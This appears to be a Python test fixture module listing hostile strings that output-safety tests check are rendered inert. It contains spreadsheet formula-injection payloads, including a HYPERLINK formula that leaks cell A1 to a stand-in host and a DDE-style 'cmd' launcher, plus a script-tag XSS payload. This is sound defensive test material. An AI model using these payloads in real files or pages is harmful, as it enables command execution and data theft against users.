"""Hostile text that case files can hold, shared by every output-safety test.

Each list is what one kind of output must keep inert: a spreadsheet formula, HTML,
rich console markup (and emoji codes). Outputs must show each exactly as typed."""

from __future__ import annotations

FORMULA = (
    '=HYPERLINK("http://x/?"&A1,"y")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=1+1",
    "-5",
    "\t=1+1",
    "http://example.com/x",
    "=cmd|' /C calc'!A0",
    "=",
)
HTML = ('<script>alert(1)</script>" onmouseover="x',)
MARKUP = (
    "Force [/x] C",  # a closing tag with nothing open: rich raises MarkupError
    "[bold]Force[/bold] D",  # would silently restyle
    "[link=http://x]Force E[/link]",
    "Force :smile: F",  # an emoji code: rich would print a face
    "Force \\[G]",  # an escaped bracket: rich would drop the backslash
)
EVERYTHING = (*FORMULA, *HTML, *MARKUP)
